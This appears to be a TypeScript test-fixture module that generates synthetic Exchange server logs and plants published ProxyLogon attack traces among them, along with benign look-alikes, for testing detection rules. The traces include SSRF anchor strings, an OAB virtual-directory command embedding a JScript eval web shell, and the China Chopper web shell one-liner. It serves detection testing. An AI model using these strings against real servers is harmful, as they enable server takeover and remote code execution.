/**
 * Synthetic but realistic Exchange evidence: IIS W3C lines, HttpProxy CSV lines, ECP server and OAB generator
 * lines as Exchange 2016/2019 write them, and the published ProxyLogon traces to plant among them.
 * Used by the bench generator and by the triage tests. Deterministic (seeded PRNG).
 */

export class Rng {
  constructor(private s: number) {}
  next(): number {
    // mulberry32
    this.s = (this.s + 0x6d2b79f5) | 0;
    let t = this.s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  pick<T>(a: readonly T[]): T {
    return a[this.int(a.length)]!;
  }
  hex(n: number): string {
    let s = "";
    for (let i = 0; i < n; i++) s += "0123456789abcdef"[this.int(16)];
    return s;
  }
  guid(): string {
    return `${this.hex(8)}-${this.hex(4)}-${this.hex(4)}-${this.hex(4)}-${this.hex(12)}`;
  }
}

export const SERVER_IP = "10.10.20.15";
export const SERVER = "EX01";
export const FQDN = "mail.contoso.com";
const USERS = ["jdoe", "asmith", "bmartin", "cdupont", "ewilson", "fmoreau", "glee", "hnguyen", "ikhan", "jlopez", "kschmidt", "lrossi"];
const UAS = [
  "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.190+Safari/537.36",
  "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:86.0)+Gecko/20100101+Firefox/86.0",
  "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13801;+Pro)",
  "Apple-iPhone12C1/1803.129",
  "Outlook-iOS/723.4027091.prod.iphone+(4.2109.0)",
  "ExchangeServicesClient/15.01.2176.002",
  "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.5122;+Pro)",
];
const REQUESTS: Array<[string, string, string]> = [
  ["POST", "/owa/service.svc", "action=GetItem&UA=0&ID=-43&AC=1"],
  ["POST", "/owa/service.svc", "action=FindItem&EP=1&ID=-12&AC=1"],
  ["GET", "/owa/", "-"],
  ["GET", "/owa/auth/15.1.2176/themes/resources/segoeui-regular.ttf", "-"],
  ["GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0"],
  ["POST", "/owa/auth.owa", "-"],
  ["POST", "/EWS/Exchange.asmx", "&CorrelationID=<empty>;&cafeReqId=REQ;"],
  ["POST", "/mapi/emsmdb/", "mailboxId=MBX@contoso.com&CorrelationID=<empty>;&cafeReqId=REQ;"],
  ["POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Sync&User=USER&DeviceId=ApplF17XK2&DeviceType=iPhone"],
  ["POST", "/autodiscover/autodiscover.xml", "&CorrelationID=<empty>;&cafeReqId=REQ;"],
  ["GET", "/ecp/", "-"],
  ["POST", "/ecp/DDI/DDIService.svc/GetList", "schema=MailboxService&msExchEcpCanary=CANARY"],
  ["GET", "/oab/" + "00000000-0000-0000-0000-000000000000/oab.xml", "-"],
  ["RPC_IN_DATA", "/rpc/rpcproxy.dll", "MBX@contoso.com:6001&CorrelationID=<empty>;&cafeReqId=REQ;"],
];

function two(n: number): string {
  return n < 10 ? `0${n}` : String(n);
}
export function dayString(day: Date): string {
  return day.toISOString().slice(0, 10);
}
export function clock(sec: number): string {
  return `${two(Math.floor(sec / 3600))}:${two(Math.floor((sec % 3600) / 60))}:${two(sec % 60)}`;
}

export function iisHeader(day: Date): string {
  return [
    "#Software: Microsoft Internet Information Services 10.0",
    "#Version: 1.0",
    `#Date: ${dayString(day)} 00:00:00`,
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
  ].join("\r\n") + "\r\n";
}

export function iisLine(rng: Rng, day: Date, sec: number): string {
  const [m, stem, q] = rng.pick(REQUESTS);
  const user = rng.pick(USERS);
  const anon = stem.startsWith("/owa/auth") || stem === "/owa/";
  const query = q.replace("REQ", rng.guid()).replace("MBX", rng.guid()).replace("USER", user).replace("CANARY", rng.hex(32));
  const status = anon ? rng.pick(["200", "302"]) : rng.next() < 0.03 ? "401" : "200";
  const clientIp = rng.next() < 0.7 ? `10.10.${rng.int(40)}.${rng.int(250) + 2}` : `${rng.int(200) + 20}.${rng.int(250)}.${rng.int(250)}.${rng.int(250) + 1}`;
  return `${dayString(day)} ${clock(sec)} ${SERVER_IP} ${m} ${stem} ${query} 443 ${anon ? "-" : `CONTOSO\\${user}`} ${clientIp} ${rng.pick(UAS)} ${anon ? "-" : `https://${FQDN}/owa/`} ${status} 0 0 ${rng.int(900) + 3}\r\n`;
}

export const HTTPPROXY_COLUMNS =
  "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors";
const HP_INDEX = new Map(HTTPPROXY_COLUMNS.split(",").map((c, i) => [c, i]));

export function httpProxyHeader(): string {
  return `${HTTPPROXY_COLUMNS}\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: ${HTTPPROXY_COLUMNS}\r\n`;
}

export function httpProxyRow(values: Record<string, string>): string {
  const row = new Array<string>(HP_INDEX.size).fill("");
  for (const [k, v] of Object.entries(values)) {
    const i = HP_INDEX.get(k);
    if (i === undefined) throw new Error(`unknown HttpProxy column ${k}`);
    row[i] = /[",]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
  }
  return `${row.join(",")}\r\n`;
}

export function httpProxyLine(rng: Rng, day: Date, sec: number, protocol = "Ecp"): string {
  const user = rng.pick(USERS);
  const stem = protocol === "Ecp" ? "/ecp/DDI/DDIService.svc/GetList" : protocol === "Owa" ? "/owa/service.svc" : "/EWS/Exchange.asmx";
  return httpProxyRow({
    DateTime: `${dayString(day)}T${clock(sec)}.${String(rng.int(1000)).padStart(3, "0")}Z`,
    RequestId: rng.guid(),
    MajorVersion: "15",
    MinorVersion: "1",
    BuildVersion: "2176",
    RevisionVersion: "2",
    Protocol: protocol,
    UrlHost: FQDN,
    UrlStem: stem,
    AuthenticationType: "Negotiate",
    IsAuthenticated: "True",
    AuthenticatedUser: `CONTOSO\\${user}`,
    AnchorMailbox: `Smtp~${user}@contoso.com`,
    UserAgent: rng.pick(UAS).replace(/\+/g, " "),
    ClientIpAddress: `10.10.${rng.int(40)}.${rng.int(250) + 2}`,
    ServerHostName: SERVER,
    HttpStatus: "200",
    BackEndStatus: "200",
    Method: "POST",
    ProxyAction: "Proxy",
    TargetServer: "ex02.contoso.local",
    TargetServerVersion: "Version 15.1 (Build 2176.2)",
    RoutingType: "AnchorMailboxHeader-SMTP",
    RoutingHint: "Smtp-Mailbox",
    BackEndCookie: `Database~${rng.guid()}~~${day.toISOString().slice(0, 10)}T${clock(sec)}`,
    ServerLocatorHost: "EX02.contoso.local",
    ServerLocatorLatency: String(rng.int(4)),
    RequestBytes: String(rng.int(4000)),
    ResponseBytes: String(rng.int(40000)),
    TargetOutstandingRequests: "0",
    HttpPipelineLatency: String(rng.int(5)),
    TotalRequestTime: String(rng.int(400)),
    UrlQuery: "?schema=MailboxService&msExchEcpCanary=" + rng.hex(24),
    GenericInfo: "OnBeginRequest=0;OnAuthenticate=1;",
  });
}

export function ecpLine(rng: Rng, day: Date, sec: number): string {
  const user = rng.pick(USERS);
  return `${dayString(day)}T${clock(sec)}.${String(rng.int(1000)).padStart(3, "0")}Z,${SERVER},ECP.Request,"S:TIME=${rng.int(400)};S:SID=${rng.guid()};S:USID=${rng.guid()};S:SRCIP=10.10.${rng.int(40)}.${rng.int(250) + 2};S:UA=Mozilla/5.0 (Windows NT 10.0; Win64; x64);S:URL=/ecp/DDI/DDIService.svc/GetList?schema=MailboxService&msExchEcpCanary=${rng.hex(16)};S:REQID=;S:URL=/ecp/;S:CMD=Get-Mailbox.Identity='CONTOSO\\${user}';S:REQBODY="\r\n`;
}

export function oabLine(rng: Rng, day: Date, sec: number): string {
  return `${dayString(day)}T${clock(sec)}.${String(rng.int(1000)).padStart(3, "0")}Z,${SERVER},OABGenerator,${rng.guid()},Info,"Generation of OAB \\Default Offline Address Book completed in ${rng.int(9000)} ms."\r\n`;
}

/** The published ProxyLogon traces, as the logs record them (Microsoft, Volexity, Praetorian reports, March 2021). */
export const ATTACKER_IP = "104.140.114.110";
export const PROXYLOGON_TRACES = {
  httpProxySsrf: (day: Date, sec: number): string =>
    httpProxyRow({
      DateTime: `${dayString(day)}T${clock(sec)}.311Z`,
      RequestId: "9c3a0d74-2a5b-4a83-a3e1-51ab3b5f5e3d",
      MajorVersion: "15",
      MinorVersion: "1",
      BuildVersion: "2176",
      RevisionVersion: "2",
      Protocol: "Ecp",
      UrlHost: FQDN,
      UrlStem: "/ecp/y.js",
      IsAuthenticated: "False",
      AuthenticatedUser: "",
      AnchorMailbox: "ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp#~1941962753",
      UserAgent: "python-requests/2.25.1",
      ClientIpAddress: ATTACKER_IP,
      ServerHostName: SERVER,
      HttpStatus: "241",
      BackEndStatus: "241",
      Method: "POST",
      ProxyAction: "Proxy",
      TargetServer: "ex01.contoso.local",
      RoutingType: "AnchorMailboxHeader-ServerInfo",
      RoutingHint: "BEResourceCookie-ServerInfo",
      TotalRequestTime: "141",
    }),
  iisStaticPost: (day: Date, sec: number): string =>
    `${dayString(day)} ${clock(sec)} ${SERVER_IP} POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=9c3a0d74-2a5b-4a83-a3e1-51ab3b5f5e3d; 443 - ${ATTACKER_IP} python-requests/2.25.1 - 200 0 0 141\r\n`,
  iisWebshellPost: (day: Date, sec: number): string =>
    `${dayString(day)} ${clock(sec)} ${SERVER_IP} POST /aspnet_client/system_web/log.aspx - 443 - ${ATTACKER_IP} antSword/v2.1 - 200 0 0 312\r\n`,
  ecpSetOab: (day: Date, sec: number): string =>
    `${dayString(day)}T${clock(sec)}.577Z,${SERVER},ECP.Request,"S:TIME=2437;S:SID=4b3f8a8d-9f0e-4a7c-9d2b-0f6d0b3c2a11;S:USID=c3a5e1f2-1111-4c2d-8e9f-0a1b2c3d4e5f;S:SRCIP=${ATTACKER_IP};S:UA=python-requests/2.25.1;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Yz5ba5dWaUGbLgYcbNe2F;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""orange""],""unsafe"");}</script>'.Identity='0b2ea5e2-1e0c-4f1c-a8b7-8f4d3a0e6f3b'"\r\n`,
  // CVE-2021-26858: the message as Test-ProxyLogon parses it ("Download failed and temporary file <path> needs to be
  // removed", CSS-Exchange PR #386), with a path outside ClientAccess\OAB.
  oabDownloadFailed: (day: Date, sec: number): string =>
    `${dayString(day)}T${clock(sec)}.123Z,${SERVER},OABGenerator,1a2b3c4d-0000-4000-8000-000000000001,Error,"Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx' needs to be removed."\r\n`,
  // CVE-2021-27065 as Test-ProxyLogon finds it in HttpProxy\Ecp (PR #386): the SSRF anchor ends in the reset
  // schema and '#', as the anchors of CSS-Exchange issue #100 end in '...&schema=OABVirtualDirectory#'.
  httpProxyResetVdir: (day: Date, sec: number): string =>
    httpProxyRow({
      DateTime: `${dayString(day)}T${clock(sec)}.871Z`,
      RequestId: "0d6e2c1a-47b1-4c1e-9f55-6a0c1b9e7d21",
      MajorVersion: "15",
      MinorVersion: "1",
      BuildVersion: "2176",
      RevisionVersion: "2",
      Protocol: "Ecp",
      UrlHost: FQDN,
      UrlStem: "/ecp/y.js",
      IsAuthenticated: "False",
      AuthenticatedUser: "",
      AnchorMailbox: "ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Yz5ba5dWaUGbLgYcbNe2F&schema=ResetOABVirtualDirectory#",
      UserAgent: "python-requests/2.25.1",
      ClientIpAddress: ATTACKER_IP,
      ServerHostName: SERVER,
      HttpStatus: "200",
      BackEndStatus: "200",
      Method: "POST",
      ProxyAction: "Proxy",
      TargetServer: "ex01.contoso.local",
      RoutingType: "AnchorMailboxHeader-ServerInfo",
      RoutingHint: "BEResourceCookie-ServerInfo",
      TotalRequestTime: "388",
    }),
  chinaChopper: '<%@ Page Language="Jscript"%><%eval(Request.Item["orange"],"unsafe");%>\r\n',
};

/**
 * Benign look-alikes of the traces above: what Test-ProxyLogon's published exclusions were made for. None of them may
 * fire a rule.
 */
export const BENIGN_TWINS = {
  /** OAB generator download failure inside <install>\ClientAccess\OAB (CSS-Exchange PR #386). */
  oabDownloadInOab: (day: Date, sec: number): string =>
    `${dayString(day)}T${clock(sec)}.456Z,${SERVER},OABGenerator,2b3c4d5e-0000-4000-8000-000000000002,Error,"Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\8f2e0b1c-6c3a-4d1e-b0d7-3e5f2a1c9b77\\oab.xml' needs to be removed."\r\n`,
  /** An administrator setting OWA's external URL in ECP (CSS-Exchange PR #386: normal administration). */
  ecpSetOwaHttps: (day: Date, sec: number): string =>
    `${dayString(day)}T${clock(sec)}.204Z,${SERVER},ECP.Request,"S:TIME=812;S:SID=1f2e3d4c-5b6a-4978-8877-665544332211;S:USID=aa11bb22-cc33-4d44-8e55-ff6677889900;S:SRCIP=10.10.3.17;S:UA=Mozilla/5.0 (Windows NT 10.0; Win64; x64);S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory&msExchEcpCanary=Qm9vZkJhcg2;S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.com/owa'.Identity='EX01\\owa (Default Web Site)'"\r\n`,
  /** A ServerInfo~ anchor to autodiscover only (excluded since CSS-Exchange commit 19778cd; issue #312). */
  httpProxyAutodiscoverAnchor: (day: Date, sec: number): string =>
    httpProxyRow({
      DateTime: `${dayString(day)}T${clock(sec)}.865Z`,
      RequestId: "5e4d3c2b-1a09-4f8e-9d7c-6b5a49382716",
      MajorVersion: "15",
      MinorVersion: "1",
      BuildVersion: "2176",
      RevisionVersion: "2",
      Protocol: "Ecp",
      UrlHost: FQDN,
      UrlStem: "/ecp/x.js",
      IsAuthenticated: "False",
      AuthenticatedUser: "",
      AnchorMailbox: "ServerInfo~a]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#",
      UserAgent: "python-requests/2.25.1",
      ClientIpAddress: "45.77.10.20",
      ServerHostName: SERVER,
      HttpStatus: "200",
      BackEndStatus: "200",
      Method: "POST",
      ProxyAction: "Proxy",
      TargetServer: "ex01.contoso.local",
      RoutingType: "AnchorMailboxHeader-ServerInfo",
      TotalRequestTime: "97",
    }),
  /** A ServerInfo~localhost anchor (excluded since CSS-Exchange commit 19778cd), shaped like signature-base PR #125's sample. */
  httpProxyLocalhostAnchor: (day: Date, sec: number): string =>
    httpProxyRow({
      DateTime: `${dayString(day)}T${clock(sec)}.546Z`,
      RequestId: "1a51fb75-2f6f-4a40-8129-ff80098494a0",
      MajorVersion: "15",
      MinorVersion: "0",
      BuildVersion: "1395",
      RevisionVersion: "0",
      Protocol: "Owa",
      UrlHost: FQDN,
      UrlStem: "/owa/auth/x.js",
      AuthenticationType: "FBA",
      IsAuthenticated: "false",
      AnchorMailbox: "ServerInfo~localhost/ecp/default.flt?",
      UserAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/69.0.3497.81 Safari/537.36",
      ClientIpAddress: "10.10.4.9",
      ServerHostName: SERVER,
      HttpStatus: "500",
      BackEndStatus: "500",
      Method: "GET",
      ProxyAction: "Proxy",
      TargetServer: "localhost",
      RoutingType: "CrossRegion",
      RoutingHint: "X-AnonResource-Backend-Cookie",
      TotalRequestTime: "382",
    }),
};

export function umEventXml(recordId: number, isoTime: string, message: string): string {
  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='MSExchange Unified Messaging'/><EventID Qualifiers='49152'>1035</EventID><Level>2</Level><Task>0</Task><Keywords>0x80000000000000</Keywords><TimeCreated SystemTime='${isoTime}'/><EventRecordID>${recordId}</EventRecordID><Channel>Application</Channel><Computer>${SERVER}.contoso.local</Computer><Security/></System><EventData><Data>${message}</Data></EventData></Event>`;
}

export function appEventXml(recordId: number, isoTime: string): string {
  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='MSExchange ADAccess'/><EventID Qualifiers='16388'>2080</EventID><Level>4</Level><Task>1</Task><Keywords>0x80000000000000</Keywords><TimeCreated SystemTime='${isoTime}'/><EventRecordID>${recordId}</EventRecordID><Channel>Application</Channel><Computer>${SERVER}.contoso.local</Computer><Security/></System><EventData><Data>Process MSExchangeHMWorker.exe (PID=5012). Exchange Active Directory Provider has discovered the following servers with the following characteristics</Data></EventData></Event>`;
}
